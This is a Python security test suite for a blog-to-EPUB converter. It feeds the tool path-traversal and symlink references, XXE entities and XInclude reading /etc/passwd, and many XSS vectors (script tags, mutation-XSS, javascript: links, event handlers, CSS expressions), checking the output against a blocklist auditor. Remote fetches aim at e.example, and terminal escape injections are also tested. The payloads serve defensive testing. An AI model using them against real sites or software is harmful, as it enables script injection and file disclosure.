# SPDX-License-Identifier: MIT
"""Posts that mean harm: references out of the roots, markup that acts, terminal escapes."""
import re
import socket
import threading
from xml.etree import ElementTree

from kit import Case, Fault, has_written, png, words_of

QUIET = ["-j1", "-q", "--cover=none", "blog"]
SECRET = b"THE-SECRET-IS-HERE"

# References out of the blog. {box} is the folder above it, where secret.* lie.
REFERENCES = [
    "../secret.{type}", "{box}/secret.{type}", "file://{box}/secret.{type}",
    "FILE://{box}/secret.{type}", "file:{box}/secret.{type}", "//localhost{box}/secret.{type}",
    "..%2fsecret.{type}", "%2e%2e/secret.{type}", "%2E%2E%2Fsecret.{type}",
    "%252e%252e/secret.{type}", "..\\secret.{type}", "..%5csecret.{type}",
    "./.././secret.{type}", "deep/../../secret.{type}", "deep/../deep/../../secret.{type}",
    "....//secret.{type}", "..;/secret.{type}", "..%00/secret.{type}", "../secret.{type}%00.png",
    "link.{type}", "link-folder/secret.{type}", "LINK.{type}", "/proc/self/cwd/secret.{type}",
    "/proc/self/root{box}/secret.{type}", "&#46;&#46;/secret.{type}", ".&#46;/secret.{type}",
    "..&sol;secret.{type}", "\u2024\u2024/secret.{type}", "\uff0e\uff0e/secret.{type}",
    "%c0%ae%c0%ae/secret.{type}", "../../{name}/secret.{type}", "/secret.{type}", "~/secret.{type}",
]

CARRIERS = [
    ("a picture", "p.md", "![x]({0})\n", "png"),
    ("a picture in angle brackets", "p.md", "![x](<{0}>)\n", "png"),
    ("a reference definition", "p.md", "![x][r]\n\n[r]: <{0}>\n", "png"),
    ("an img element", "p.md", '<img src="{0}" alt="x">\n', "png"),
    ("a srcset", "p.md", '<img srcset="{0} 1x, {0} 2x" src="{0}" alt="x">\n', "png"),
    ("a picture element", "p.md", '<picture><source srcset="{0}"><img src="{0}"></picture>\n',
     "png"),
    ("a video's poster", "p.md", '<video poster="{0}" src="{0}"></video>\n', "png"),
    ("a style attribute", "p.md", '<p style="background: url({0})">x</p>\n', "png"),
    ("a style element", "p.md", "<style>p {{ background: url('{0}') }} @import '{0}';</style>\n",
     "css"),
    ("a link element", "p.md", '<link rel="stylesheet" href="{0}">\n', "css"),
    ("an object element", "p.md", '<object data="{0}">x</object><embed src="{0}">\n', "svg"),
    ("an iframe", "p.md", '<iframe src="{0}"></iframe>\n', "html"),
    ("inline SVG", "p.md", '<svg xmlns:xlink="http://www.w3.org/1999/xlink"><image href="{0}" '
     'xlink:href="{0}" width="9" height="9"/><use href="{0}#a"/></svg>\n', "svg"),
    ("a Liquid include", "p.md", "{{% include {0} %}}\n\n{{% include_relative {0} %}}\n", "md"),
    ("a Hugo shortcode", "p.md", '{{{{< figure src="{0}" >}}}}\n\n{{{{% readfile "{0}" %}}}}\n',
     "md"),
    ("an mdBook include", "p.md", "{{{{#include {0}}}}}\n\n{{{{#rustdoc_include {0}}}}}\n", "md"),
    ("an Obsidian embed", "p.md", "![[{0}]]\n", "md"),
    ("an Obsidian picture", "p.md", "![[{0}]]\n", "png"),
    ("a code include", "p.md", "```rust file={0}\n```\n", "md"),
    ("an MDX import", "p.mdx", "import x from '{0}'\n\n<img src={{require('{0}')}} />\n", "png"),
]


def secrets(box):
    for kind in ("png", "svg", "css", "md", "html"):
        text = {"png": png(7, 5) + SECRET,
                "svg": b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><text id="a">'
                       + SECRET + b"</text></svg>"}.get(kind, b"/* " + SECRET + b" */\n")
        box.write(f"secret.{kind}", text)
    box.write("blog/deep/note.txt", "x")


def links(box):
    import os
    for kind in ("png", "svg", "css", "md", "html"):
        os.symlink(f"../secret.{kind}", box.path(f"blog/link.{kind}"))
    os.symlink("..", box.path("blog/link-folder"))


def check_secret(files):
    for name, data in files.items():
        if SECRET in data:
            raise Fault(f"the secret is in {name}")


def spelled(box, reference, kind):
    import os
    return reference.format(box=box.folder, type=kind, name=os.path.basename(box.folder))


def carried(box, site, name, body, kind):
    """BODY with every spelling, as a plain blog and as that of a generator."""
    secrets(box)
    links(box)
    for path, text in site:
        box.write("blog/" + path, text)
    bodies = "\n".join(body.format(spelled(box, r, kind)) for r in REFERENCES)
    box.post(FOLDERS.get(site[0][0] if site else None, "") + name,
             "survives\n\n" + bodies)
    files = has_written(box, box.run(*QUIET, "blog"))
    check_secret(files)
    if "survives" not in words_of(files):
        raise Fault("the post's own words are lost")


# A site's own file that is a link out of it → what else makes the site, and where its post is.
SITE_LINKS = [
    ("_config.yml", "title: SECRET-{0}\n", {}, "_posts/2024-01-02-p.md"),
    ("config/_default/hugo.toml", "title = 'SECRET-{0}'\n", {}, "content/p.md"),
    ("_data/site.json", '{{"title": "SECRET-{0}"}}\n', {".eleventy.js": ""}, "posts/p.md"),
    ("src/SUMMARY.md", "# S\n\n- [SECRET-{0}](p.md)\n", {"book.toml": "[book]\n"}, "src/p.md"),
    ("_data/authors.yml", "a: {{name: SECRET-{0}}}\n", {"_config.yml": ""}, "_posts/2024-01-02-p.md"),
    ("data/authors", None, {"hugo.toml": ""}, "content/p.md"),
]


def site_link(box, name, text, files, post):
    import os
    box.write("out/x.yml" if text is None else "out", (text or "name: SECRET-{0}\n").format("IS-HERE"))
    for path, content in files.items():
        box.write("blog/" + path, content)
    box.post(post, "words\n", "author: a\nauthors: [x]\n")
    os.makedirs(os.path.dirname(box.path("blog/" + name)), exist_ok=True)
    os.symlink(box.path("out"), box.path("blog/" + name))
    result = box.run("-j1", "--cover=none", "blog")
    for path, data in has_written(box, result).items():
        if b"SECRET" in data:
            raise Fault(f"the secret is in {path}")
    if text is not None and "outside" not in result.err:
        raise Fault(f"nothing is said of it: {result.err}")


def front_matter(box, key):
    secrets(box)
    links(box)
    for i, reference in enumerate(REFERENCES):
        text = spelled(box, reference, "png").replace("'", "''")
        box.write(f"blog/p{i}.md", f"---\ntitle: T\n{key}: '{text}'\n---\n\nwords\n")
    check_secret(has_written(box, box.run(*QUIET)))


def inside_svg(box):
    secrets(box)
    links(box)
    uses = "".join(
        f'<image href="{r}" x:href="{r}"/><use x:href="{r}#a"/><rect fill="url({r}#a)" '
        f'style="fill: url({r}#a)"/>'
        for r in (spelled(box, r, "svg").replace("&", "&amp;") for r in REFERENCES))
    box.write("blog/a.svg", '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9" '
              f'xmlns:x="http://www.w3.org/1999/xlink"><rect width="3" height="3"/>{uses}</svg>')
    box.post("p.md", "survives ![x](a.svg)\n")
    files = has_written(box, box.run(*QUIET))
    check_secret(files)
    for name, data in files.items():
        if name.endswith(".svg") and b"secret" in data:
            raise Fault(f"a reference stays in {name}")


def xml_entity(box):
    secrets(box)
    box.write("blog/a.svg", '<!DOCTYPE svg [<!ENTITY e SYSTEM "../secret.md"><!ENTITY % p SYSTEM '
              '"../secret.md"> %p;]><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9" '
              'xmlns:xi="http://www.w3.org/2001/XInclude"><text>&e;</text><xi:include '
              'href="../secret.md" parse="text"/><rect width="3" height="3"/></svg>')
    box.post("p.md", 'survives ![x](a.svg)\n\n<!DOCTYPE x [<!ENTITY e SYSTEM "../secret.md">]>\n\n'
             '&e; <xi:include href="../secret.md" parse="text"/>\n')
    check_secret(has_written(box, box.run(*QUIET)))


def no_network(box):
    """Nothing connects to a listener that every kind of remote reference names."""
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    listener.settimeout(0.2)
    port = listener.getsockname()[1]
    came = []

    def accept():
        while not over.is_set():
            try:
                came.append(listener.accept())
            except OSError:
                pass

    over = threading.Event()
    thread = threading.Thread(target=accept)
    thread.start()
    try:
        url = f"http://127.0.0.1:{port}/x"
        body = "survives\n\n" + "\n".join(
            c[2].format(f"{url}.{c[3]}") for c in CARRIERS if c[1] == "p.md")
        box.post("p.md", body, f"image: {url}.png\ncover: {url}.png\n")
        box.write("blog/a.svg", f'<!DOCTYPE svg SYSTEM "{url}.dtd"><svg '
                  'xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9">'
                  f'<image href="{url}.png"/><rect width="3" height="3"/></svg>')
        box.post("q.md", "![x](a.svg)\n")
        files = has_written(box, box.run(*QUIET))
    finally:
        over.set()
        thread.join()
        listener.close()
    if came:
        raise Fault("something connected")
    audit(files)


# Markup that acts. The auditor reads the book as a reader would.

FORBIDDEN = {"script", "form", "iframe", "object", "embed", "applet", "base", "frame", "frameset",
             "foreignobject", "animate", "animatemotion", "animatetransform", "set", "handler",
             "listener", "maction", "include", "portal", "template", "slot", "noscript", "input",
             "button", "select", "textarea", "dialog"}
LINKS = {"href", "src", "srcset", "data", "poster", "action", "formaction", "background", "cite",
         "longdesc", "manifest", "ping", "xlink:href", "altimg", "to", "from", "values"}
SVG_TEXTS = {"aria-label", "class", "id", "lang", "href"}  # others may be read as CSS
SCHEMES = {"http", "https", "mailto", "tel", "ftp", "geo", "sms", "xmpp", "irc", "news", "magnet"}
BAD_CSS = re.compile(r"@import|expression\s*\(|behavior\s*:|-moz-binding|javascript:|"
                     r"image(?:-set)?\s*\(|(?<![\w-])src\s*\(|"
                     r"url\(\s*['\"]?\s*(?:[a-z]+:|//)", re.IGNORECASE)


def css_text(text):
    text = re.sub(r"/\*.*?\*/", "", text, flags=re.DOTALL)
    return re.sub(r"\\([0-9a-fA-F]{1,6})\s?", lambda m: chr(int(m[1], 16) % 0x110000), text)


def local(name):
    return name.rpartition("}")[2].lower()


def audit_attribute(where, element, name, value, is_svg):
    plain = re.sub(r"[\x00-\x20]", "", value)
    scheme = re.match(r"([a-zA-Z][a-zA-Z0-9+.-]*):", plain)
    if name.startswith("on"):
        raise Fault(f"{where}: handler {name} on {element}")
    if name in LINKS and scheme and scheme[1].lower() not in SCHEMES:
        raise Fault(f"{where}: {element} {name}={value[:60]!r}")
    if name in LINKS - {"href", "cite"} and (scheme or plain.startswith("//")):
        raise Fault(f"{where}: remote {element} {name}={value[:60]!r}")
    if name == "href" and element not in ("a", "area") and (scheme or plain.startswith("//")):
        raise Fault(f"{where}: remote {element} href={value[:60]!r}")
    is_css = name == "style" or (is_svg and name not in SVG_TEXTS)
    if is_css and BAD_CSS.search(css_text(value)):
        raise Fault(f"{where}: {name}={value[:60]!r}")
    if name == "http-equiv" or name == "srcdoc":
        raise Fault(f"{where}: {element} {name}")


def audit_document(where, data):
    if re.search(rb"<!ENTITY|<\?xml-stylesheet|<!DOCTYPE[^>]*\[", data, re.IGNORECASE):
        raise Fault(f"{where}: an entity, subset or stylesheet instruction")
    for node in ElementTree.fromstring(data).iter():
        if not isinstance(node.tag, str):
            continue
        element = local(node.tag)
        if element in FORBIDDEN:
            raise Fault(f"{where}: element {element}")
        if element == "style" and BAD_CSS.search(css_text("".join(node.itertext()))):
            raise Fault(f"{where}: a style element")
        is_svg = node.tag.startswith("{http://www.w3.org/2000/svg}")
        for name, value in node.attrib.items():
            audit_attribute(where, element, local(name), value, is_svg)


def audit(files):
    for name, data in files.items():
        if name.endswith((".xhtml", ".svg")):
            audit_document(name, data)
        elif name.endswith(".css") and BAD_CSS.search(css_text(data.decode())):
            raise Fault(f"{name}: a rule that acts")


MARKUP = [
    ("script", "<script>alert(1)</script>"),
    ("script in mixed case", "<ScRiPt>alert(1)</sCrIpT>"),
    ("script across lines", "<script\n>alert(1)</script\n>"),
    ("script within a tag of script", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("script behind a NUL", "<scr\0ipt>alert(1)</scr\0ipt>"),
    ("script with a slash", "<script/src=//e.example/x.js></script>"),
    ("script that is not closed", "<script>alert(1)"),
    ("script in entities", "&lt;script&gt;alert(1)&lt;/script&gt; <b>&#60;script&#62;</b>"),
    ("script in a comment's end", "<!-- --!><script>alert(1)</script> -->"),
    ("script behind a broken attribute", "<img \"\"\"><script>alert(1)</script>\">"),
    ("script in a code span's edge", "`<script>`alert(1)</script>"),
    ("script in a link's title", '[a](b "</a><script>alert(1)</script>")'),
    ("script in an alt", '![</p><script>alert(1)</script>](x.png)'),
    ("script in a fence's info", "```\"><script>alert(1)</script>\nx\n```"),
    ("script in a heading's id", '## h {#"><script>alert(1)</script>}'),
    ("script in a table cell", "|<script>|x|\n|-|-|\n|alert(1)</script>|y|"),
    ("script in a footnote's name", '[^"><script>]\n\n[^"><script>]: x'),
    ("script in SVG", "<svg><script>alert(1)</script><script href='x.js'/></svg>"),
    ("script in MathML", "<math><mtext><script>alert(1)</script></mtext></math>"),
    ("script by mutation in style", "<svg><style><!--</style><img src=x onerror=alert(1)>--></svg>"),
    ("script by mutation in noscript", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    ("script by mutation in mglyph",
     "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=alert(1)>'>"),
    ("script by mutation in textarea", "<textarea><script>alert(1)</script></textarea>"),
    ("script by mutation in title", "<svg><title><style><img src=x onerror=alert(1)></style></title>"),
    ("script by mutation in plaintext", "<plaintext><script>alert(1)</script>"),
    ("script in xmp", "<xmp><script>alert(1)</script></xmp>"),
    ("script by CDATA", "<svg><![CDATA[><script>alert(1)</script>]]></svg>"),
    ("script in TeX", "$\\text{<script>alert(1)</script>}$ $\\href{javascript:alert(1)}{x}$"),
    ("a handler", "<p onclick='alert(1)'>x</p>"),
    ("a handler in mixed case", "<p oNcLiCk=alert(1)>x</p>"),
    ("a handler behind a slash", "<img/onerror=alert(1)/src=x.png>"),
    ("a handler behind control characters", "<p \x01onclick=alert(1) \x0conload=alert(1)>x</p>"),
    ("a handler in backquotes", "<img src=`x` onerror=`alert(1)`>"),
    ("a handler on SVG", "<svg onload=alert(1)><g onmouseover=alert(1)/></svg>"),
    ("a handler by a broken quote", "<p title=\"a\"onclick=\"alert(1)\">x</p>"),
    ("a handler by attribute lists", "x {: onclick=\"alert(1)\"}\n\n## h {onclick=alert(1)}"),
    ("a handler by a shortcode", '{{< figure src="x.png" onclick="alert(1)" alt="\\" onload=x" >}}'),
    ("a javascript: link", "[a](javascript:alert(1)) <javascript:alert(1)>"),
    ("a javascript: link in mixed case", "[a](JaVaScRiPt:alert(1))"),
    ("a javascript: link in entities", "[a](java&#115;cript:alert(1)) [b](&#x6A;avascript:alert(1))"),
    ("a javascript: link with a tab", "<a href='java\tscript:alert(1)'>x</a>"),
    ("a javascript: link with newlines", "<a href='java&#10;script&#13;:alert(1)'>x</a>"),
    ("a javascript: link behind blanks", "<a href=' \x01 javascript:alert(1)'>x</a>"),
    ("a javascript: link percent-encoded", "[a](%6Aavascript:alert(1)) [b](javascript%3Aalert(1))"),
    ("a javascript: link by reference", "[a]\n\n[a]: javascript:alert(1)"),
    ("a javascript: link by an attribute's name", "<a xlink:href='javascript:alert(1)'>x</a>"),
    ("a javascript: link in SVG",
     "<svg xmlns:l='http://www.w3.org/1999/xlink'><a l:href='javascript:alert(1)'><text>x</text></a></svg>"),
    ("a vbscript: link", "[a](vbscript:msgbox(1)) <a href='VBSCRIPT:x'>y</a>"),
    ("a data: link", "[a](data:text/html,<script>alert(1)</script>)"),
    ("a data: picture", "![a](data:image/svg+xml;base64,PHN2Zy8+) <img src='data:image/png;base64,AA'>"),
    ("a blob:, file: and about: link", "[a](blob:x) [b](file:///etc/passwd) [c](about:blank)"),
    ("a view-source: link", "[a](view-source:http://e.example/) [b](jar:http://e.example!/)"),
    ("a form", "<form action='http://e.example/'><input name=a><button formaction='javascript:x'>b</form>"),
    ("an isindex", "<isindex action=javascript:alert(1) type=image>"),
    ("plug-ins", "<object data=x.swf></object><embed src=x.swf><applet code=x></applet>"),
    ("an iframe", "<iframe src=http://e.example/ srcdoc='<script>x</script>'></iframe>"),
    ("frames", "<frameset><frame src=http://e.example/></frameset>"),
    ("a meta refresh", "<meta http-equiv=refresh content='0;url=http://e.example/'>"),
    ("a base", "<base href='http://e.example/'>[a](b)"),
    ("a remote style", "<link rel=stylesheet href=http://e.example/x.css>"),
    ("a remote picture", "<img src=http://e.example/x.png> ![a](//e.example/x.png)"),
    ("a remote font", "<style>@font-face{font-family:x;src:url(http://e.example/x.woff)}</style>"),
    ("a remote sound", "<audio src=http://e.example/x.mp3 autoplay></audio>"),
    ("a remote film", "<video poster=http://e.example/x.png><source src=http://e.example/x.mp4></video>"),
    ("an entity", "<!DOCTYPE x [<!ENTITY y 'z'>]>\n\n<p>&y;</p>"),
    ("processing instructions", "<?xml-stylesheet href='http://e.example/x.xsl'?> <?php x ?>"),
    ("XInclude", "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='/etc/passwd'/>"),
    ("foreignObject", "<svg><foreignObject><p onclick=x>y</p><iframe src=x></iframe></foreignObject></svg>"),
    ("animation", "<svg><a><animate attributeName=href values='javascript:alert(1)'/>"
     "<set attributeName=onclick to=alert(1) /></a></svg>"),
    ("SVG events", "<svg xmlns:ev='http://www.w3.org/2001/xml-events'><handler ev:event='load'>"
     "alert(1)</handler><listener event='load' handler='#x'/></svg>"),
    ("a remote use", "<svg><use href='http://e.example/x.svg#a'/><image href='//e.example/x'/></svg>"),
    ("a MathML action", "<math><maction actiontype='statusline#http://e.example'><mi>x</mi>"
     "</maction><mi xlink:href='javascript:alert(1)' href='javascript:alert(1)'>y</mi></math>"),
    ("CSS expression", "<p style='width: expression(alert(1))'>x</p>"),
    ("CSS expression in escapes", "<p style='width: e\\78 pression(alert(1))'>x</p>"),
    ("CSS expression in comments", "<p style='width: exp/**/ression(alert(1))'>x</p>"),
    ("CSS behavior", "<p style='behavior: url(x.htc); -moz-binding: url(http://e.example/x)'>x</p>"),
    ("CSS import", "<style>@import 'http://e.example/x.css'; @IMPORT url(//e.example/y);</style>"),
    ("CSS import in escapes", "<style>@\\69mport 'http://e.example/x.css'; @i\\6d port url(x)</style>"),
    ("CSS import in an SVG", "<svg><style>@import url(http://e.example/x.css);</style></svg>"),
    ("CSS url", "<p style='background: URL(http://e.example/x), u\\72l(//e.example/y)'>x</p>"),
    ("CSS url with javascript:", "<p style='background: url(\"java\\73cript:alert(1)\")'>x</p>"),
    ("CSS that closes its element", "<style></style><script>alert(1)</script></style>"),
    ("CSS in a colour", "<font color='red;x:expression(alert(1))'>x</font>"),
    ("a custom element", "<x-y onclick=alert(1) is='script'>z</x-y>"),
    ("a template and slot", "<template><script>alert(1)</script></template><slot name=x></slot>"),
    ("a portal", "<portal src=http://e.example/></portal>"),
    ("a details handler", "<details open ontoggle=alert(1)><summary>x</summary></details>"),
    ("UTF-7", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    ("overlong UTF-8", "\udcc0\udcbcscript\udcc0\udcbealert(1)"),
    ("MDX", "<Foo onClick={alert(1)} dangerouslySetInnerHTML={{__html: '<script>x</script>'}} />"),
]


def markup(box, body):
    name = "p.mdx" if body.startswith("<Foo") else "p.md"
    text = f"---\ntitle: T\n---\n\nfirst words\n\n{body}\n\nlast words\n"
    box.write("blog/" + name, text.encode("utf-8", "surrogateescape"))
    box.write("blog/x.png", png())
    files = has_written(box, box.run("-j1", "-q", "--cover=none", "blog"))
    audit(files)
    if "first words" not in words_of(files):
        raise Fault("the words in front of it are lost")


def metadata(box):
    """The same in all that front matter puts into generated pages."""
    evil = "</title><script>alert(1)</script>\" onclick=\"alert(1)&<!--"
    quoted = "'" + evil.replace("'", "''") + "'"
    for i in range(2):
        box.write(f"blog/p{i}.md", "---\n" + "".join(
            f"{key}: {quoted}\n" for key in ("title", "subtitle", "author", "description", "slug",
                                             "series", "language")) +
            f"tags: [{quoted}]\ncategories: [{quoted}]\ndate: 202{i}-01-01\n---\n\nwords\n")
    box.write("blog/book.yaml", "".join(
        f"{key}: {quoted}\n" for key in ("title", "subtitle", "author", "publisher", "rights",
                                         "description")))
    audit(has_written(box, box.run("-j1", "-q", "--cover=none", "blog")))


def unwritable(box, path, text, arguments=()):
    """Words that no book can hold are cleaned wherever they come from; what is left of nothing
    counts as not being there, rather than making the book faulty."""
    for i in range(2):
        box.write(f"blog/p{i}.md", "words\n")
    box.write("blog/" + path, text)
    files = has_written(box, box.run("-j1", "--cover=none", *arguments, "blog"))
    for name, data in files.items():
        if name.endswith((".xhtml", ".opf", ".ncx")):
            ElementTree.fromstring(data)
    checked = box.run("--check", "out.epub", output=False)
    if checked.status or ": warning" in checked.err:
        raise Fault(checked.err)


WORDS = ("title", "subtitle", "description", "author", "tags", "categories", "series", "slug",
         "rights", "image_alt")
UNWRITABLE = [
    ("escapes in YAML", "q.md", "---\n" + "".join(f'{k}: "\\x01\\b"\n' for k in WORDS)
     + "date: 2024-01-02\n---\nx\n"),
    ("escapes in TOML", "q.md", "+++\n" + "".join(f'{k} = "\\u0001\\b"\n' for k in WORDS)
     + "+++\nx\n"),
    ("escapes in JSON", "q.md", "{" + ",".join(f'"{k}": "\\u0001\\b"' for k in WORDS) + "}\n\nx\n"),
    ("escapes in a script", "astro.config.mjs", "export default { title: '\\x01', author: '\\b' }\n"),
    ("escapes in book.yaml", "book.yaml", "".join(f'{k}: "\\x01"\n' for k in (
        "title", "subtitle", "publisher", "description", "rights", "identifier"))),
    ("an identifier of two lines", "book.yaml", 'identifier: "a\\n \\tb"\n'),
    ("a contents that is not UTF-8", "SUMMARY.md",
     b"# P\xe9\n\n- [\xff\xfe \x01](p0.md)\n- [](p1.md)\n# \x02\n"),
    ("arguments", "q.md", "x", ["--title=b\udcff\x01", "--author=\x01", "--author=\udce9",
                               "--publisher=\x02", "--rights=\udcfe", "--description=\x02",
                               "--identifier=\x02"]),
    ("ids that hold what ends a fragment", "q.md",
     "# t\n\n## a {##b%41}\n\n## c {#%6Aa:b}\n\n## d {#x[y]?z#}\n", ["--toc-depth=3"]),
]


def svg_file(box, inner):
    box.write("blog/a.svg", '<svg xmlns="http://www.w3.org/2000/svg" '
              'xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9" onload="alert(1)">'
              f'<rect width="3" height="3"/>{inner}</svg>')
    box.post("p.md", "first words ![x](a.svg)\n")
    files = has_written(box, box.run(*QUIET))
    audit(files)
    if "first words" not in words_of(files):
        raise Fault("the post is lost")


SVG = [
    ("script", "<script>alert(1)</script><script xlink:href='http://e.example/x.js'/>"),
    ("handlers", "<g onclick='alert(1)' onbegin='alert(1)'><rect width='1' height='1'/></g>"),
    ("foreignObject", "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><script/></body>"
     "</foreignObject>"),
    ("animation of a link", "<a xlink:href='x'><animate attributeName='xlink:href' "
     "to='javascript:alert(1)'/><set attributeName='href' to='javascript:alert(1)'/></a>"),
    ("remote pictures", "<image xlink:href='http://e.example/x.png' href='//e.example/y.png'/>"),
    ("styles", "<style>@import url(http://e.example/x); rect { fill: url(http://e.example/y#a) }"
     "</style><rect style='fill: url(http://e.example/z#a)'/>"),
    ("functions that load", "<g mask='image-set(\"http://e.example/x\" 1x)' clip-path='src(\"//e.example/x\")' "
     "fill='u\\72l(//e.example/x#a)' filter='image(\"//e.example/x\")'/><style>rect { mask: "
     "-webkit-image-set(\"//e.example/x\" 1x) }</style><rect style='mask: src(\"//e.example/x\")'/>"),
    ("a javascript: link", "<a xlink:href='java&#10;script:alert(1)'><text>x</text></a>"),
]


# Terminals.

def terminal(box, text, raw):
    """TEXT in a title, tag, name and date reaches standard error escaped."""
    quoted = '"' + text + '"'
    box.post("p.md", f"![x]({text}.png) [y](/{text}/) {{{{< {text} >}}}}\n",
             f"tags: [{quoted}]\ndate: {quoted}\nlanguage: {quoted}\n".replace("date: 2024", "#"))
    box.write("blog/q.md", f"---\ntitle: {quoted}\n: bad {text}\n---\n\nx\n")
    for arguments, output in ((["-j1", "-v", "--cover=none", "blog"], None),
                              (["--list", "blog"], False),
                              (["-v", "--diagnostics=json", "--cover=none", "blog"], None),
                              (["-v", "--diagnostics=github", "--cover=none", "blog"], None)):
        result = box.run(*arguments, output=output)
        if result.status not in (0, 1):
            raise Fault(f"status {result.status}\n{result.err}")
        shown = result.err + (result.out or b"").decode("utf-8", "backslashreplace")
        if raw in shown:
            raise Fault(f"raw {raw!r} with {arguments}")


TERMINAL = [
    ("colours", "\\e[31mred", "\x1b[31m"), ("a title change", "\\e]0;evil\\a", "\x1b]0"),
    ("a clear screen", "\\e[2J", "\x1b[2J"), ("C1 controls", "\\x9b31m", "\x9b"),
    ("a backspace", "abc\\b\\b\\b", "\b"), ("a carriage return", "good\\revil", "\r"),
    ("a bidirectional override", "\u202egnp", "\u202e"),
    ("a bidirectional isolate", "\u2066x\u2069", "\u2066"),
]

MDBOOK = [("book.toml", "[book]\ntitle = \"B\"\n"), ("src/SUMMARY.md", "# S\n\n- [p](p.md)\n")]
HUGO = [("hugo.toml", "title = \"B\"\n")]
JEKYLL = [("_config.yml", "title: B\n")]
OBSIDIAN = [(".obsidian/app.json", "{}")]
FOLDERS = {"book.toml": "src/", "_config.yml": "_posts/2024-01-02-"}  # of a generator's posts
SITES = {"an mdBook include": MDBOOK, "a Hugo shortcode": HUGO, "a Liquid include": JEKYLL,
         "an Obsidian embed": OBSIDIAN, "an Obsidian picture": OBSIDIAN}

CASES = [Case(f"out of the roots by {what}", carried, SITES.get(what, []), name, body, kind)
         for what, name, body, kind in CARRIERS]
CASES += [Case(f"out of the roots by front matter's {key}", front_matter, key)
          for key in ("cover", "image", "featured_image", "thumbnail")]
CASES += [Case(f"out of the roots by a link at {name}", site_link, name, *rest)
          for name, *rest in SITE_LINKS]
CASES += [
    Case("out of the roots by an SVG file", inside_svg),
    Case("out of the roots by XML entities", xml_entity),
    Case("nothing is fetched", no_network),
    Case("markup in front matter", metadata),
]
CASES += [Case(f"what cannot be written by {name}", unwritable, *rest) for name, *rest in UNWRITABLE]
CASES += [Case(f"markup: {name}", markup, body) for name, body in MARKUP]
CASES += [Case(f"an SVG file with {name}", svg_file, inner) for name, inner in SVG]
CASES += [Case(f"terminal: {name}", terminal, text, raw) for name, text, raw in TERMINAL]
